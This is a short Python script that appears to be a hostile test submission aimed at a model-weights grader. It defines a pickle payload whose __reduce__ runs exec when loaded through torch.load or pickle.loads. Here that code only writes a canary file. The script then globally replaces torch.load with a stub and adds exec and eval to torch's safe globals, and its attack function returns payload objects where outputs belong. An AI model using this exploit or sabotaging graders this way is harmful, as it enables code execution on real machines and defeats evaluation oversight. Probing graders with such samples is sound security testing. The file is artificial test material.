"""Loads a pickle as weights whose __reduce__ writes a canary and whose second stage patches torch.load for everybody."""
import os
import pickle
import tempfile
import torch


class Payload:
    def __reduce__(self):
        code = "open('/tmp/grader-canary-pickle_weights.txt', 'w').write('pickle ran')"
        return exec, (code,)


path = os.path.join(tempfile.mkdtemp(), "weights.pt")
try:
    torch.save({"weight": torch.zeros(2), "x": Payload()}, path)
    torch.load(path, weights_only=False)
except Exception:
    pass
try:
    pickle.loads(pickle.dumps(Payload()))
except Exception:
    pass
torch.load = lambda *a, **kw: {}
torch.serialization.add_safe_globals([exec, eval])


def attack(q, k, v, mask):
    return Payload(), Payload()
